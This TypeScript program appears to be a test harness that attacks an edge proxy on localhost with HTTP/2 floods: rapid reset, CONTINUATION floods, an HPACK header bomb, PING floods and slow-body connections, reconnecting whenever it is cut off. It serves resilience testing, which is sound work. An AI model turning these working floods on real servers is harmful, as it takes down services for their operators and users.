/** A hostile client of the edge proxy, as a program: floods a port until it is ended, again whenever it is cut off. */
import { once } from "node:events";
import { setTimeout as pause, setImmediate as turn } from "node:timers/promises";
import { connect, type TLSSocket } from "node:tls";
import {
  FLAG,
  frame,
  indexed,
  NEWEST,
  PREFACE,
  plain,
  REQUEST,
  request,
  reset,
  streamId,
  TYPE,
} from "#proxy/h2-frames.fixtures.ts";

const [kind = "", port = "", servername = ""] = process.argv.slice(2);
const CONNECTIONS = 8;
const SLOW_CONNECTIONS = 200;

const many = (count: number, piece: (n: number) => Uint8Array): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, n) => piece(n)));

/** What is sent in turn `n` of a connection. */
const FLOODS: Record<string, (n: number) => Uint8Array> = {
  "rapid reset": (n) => many(100, (i) => Buffer.concat([request(streamId(n * 100 + i)), reset(streamId(n * 100 + i))])),
  CONTINUATION: (n) =>
    n === 0
      ? frame(TYPE.headers, FLAG.end_stream, 1, REQUEST)
      : frame(TYPE.continuation, 0, 1, plain("x-flood", "a".repeat(4000))),
  HPACK: (n) =>
    n === 0
      ? request(1, Buffer.concat([REQUEST, indexed("x-bomb", "a".repeat(3900))]))
      : request(streamId(n), Buffer.concat([REQUEST, Buffer.alloc(16_000, NEWEST)])),
  PING: () => many(1000, () => frame(TYPE.ping, 0, 0, Buffer.alloc(8))),
  "slow bodies": (n) =>
    n === 0
      ? frame(
          TYPE.headers,
          FLAG.end_headers,
          1,
          Buffer.concat([Buffer.from([0x83, 0x87, 0x84]), plain(":authority", servername)]),
        )
      : frame(TYPE.data, 0, 1, Buffer.alloc(1)),
};

let [connections, writes] = [0, 0];

async function flood(socket: TLSSocket, pieceOf: (n: number) => Uint8Array): Promise<void> {
  await once(socket, "secureConnect");
  const closed = once(socket, "close");
  connections++;
  socket.write(Buffer.concat([PREFACE, frame(TYPE.settings, 0, 0), frame(TYPE.settings, FLAG.ack, 0)]));
  for (let n = 0; socket.writable; n++) {
    const taken = new Promise<void>((resolve) => socket.write(pieceOf(n), () => resolve()));
    await Promise.race([taken, closed]);
    writes++;
    if (kind === "slow bodies") await pause(500);
    else await turn();
  }
}

async function attack(): Promise<never> {
  const pieceOf = FLOODS[kind];
  if (!pieceOf) throw new Error(`there is no flood "${kind}"`);
  for (;;) {
    const socket = connect({
      port: Number(port),
      host: "127.0.0.1",
      servername,
      rejectUnauthorized: false,
      ALPNProtocols: ["h2"],
    });
    socket.on("error", () => socket.destroy()).resume();
    await flood(socket, pieceOf).catch(() => {});
    socket.destroy();
    await turn();
  }
}

setInterval(() => process.stdout.write(`${connections} ${writes}\n`), 200);
for (let n = 0; n < (kind === "slow bodies" ? SLOW_CONNECTIONS : CONNECTIONS); n++) void attack();
